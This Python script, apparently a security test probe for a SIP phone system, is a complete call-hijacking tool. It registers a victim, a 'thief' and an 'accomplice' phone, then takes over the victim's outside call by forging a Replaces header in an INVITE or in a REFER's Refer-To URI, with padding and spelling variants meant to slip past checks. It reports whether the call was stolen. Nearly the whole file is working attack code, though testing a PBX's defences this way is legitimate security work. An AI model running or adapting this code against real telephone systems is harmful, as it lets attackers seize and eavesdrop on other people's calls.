"""A phone that takes a colleague's call to the outside over, once it knows the ids of its dialog.

Input: {"host", "outside", "any", "how", "pad", "spelling", "phones": [the colleague's, the thief's, an accomplice's]}, each a phone
as in `agent.py`. `how`: `invite` sends INVITE with Replaces to the extension `any`; `refer` calls the accomplice and sends it
into the call by REFER with a Replaces in Refer-To, spelt as told. `pad` lengthens the header by so many characters. Prints
{"victim", "answer", "lost", "taken"}: how the colleague's call and the attempt were answered, whether the colleague's call was
ended, and whether the thief's side was still in a call 1.5 s later.
"""

import json
import sys
from urllib.parse import quote

from agent import Agent, pump


def replaces(dialog, pad):
    ids = dialog.ids
    filler = f";x={'a' * pad}" if pad else ""
    return f"{ids['call']};to-tag={ids['theirs']};from-tag={ids['own']}{filler}"


def by_invite(agents, job, dialog):
    thief = agents[1]
    return thief.call(agents, job["any"], {"Replaces": replaces(dialog, job["pad"])})


def by_refer(agents, job, dialog):
    _, thief, accomplice = agents
    status, own = thief.call(agents, accomplice.extension)
    if status != 200:
        raise SystemExit(f"the accomplice was not reached: {status}")
    pump(agents, seconds=0.5)
    uri = f"sip:{job['outside']}@{job['host']}?{job['spelling']}={quote(replaces(dialog, job['pad']), safe='')}"
    return thief.within(agents, own, "REFER", {"Refer-To": f"<{uri}>"}), accomplice.dialogs[-1]


def run(job):
    agents = [Agent(one["door"], one["user"], one["password"], one["extension"]) for one in job["phones"]]
    for agent in agents:
        if agent.register(agents) != 200:
            raise SystemExit(f"{agent.user} cannot register")
    answer, lost, taken = None, False, False
    try:
        status, dialog = agents[0].call(agents, job["outside"])
        if dialog is not None:
            pump(agents, seconds=0.5)
            answer, theirs = (by_invite if job["how"] == "invite" else by_refer)(agents, job, dialog)
            pump(agents, seconds=1.5)
            lost = dialog.ended
            taken = lost and theirs is not None and not theirs.ended
    finally:
        for agent in agents:
            agent.hang_up(agents)
            agent.register(agents, 0)
    return {"victim": status, "answer": answer, "lost": lost, "taken": taken}


if __name__ == "__main__":
    print(json.dumps(run(json.loads(sys.stdin.readline()))))
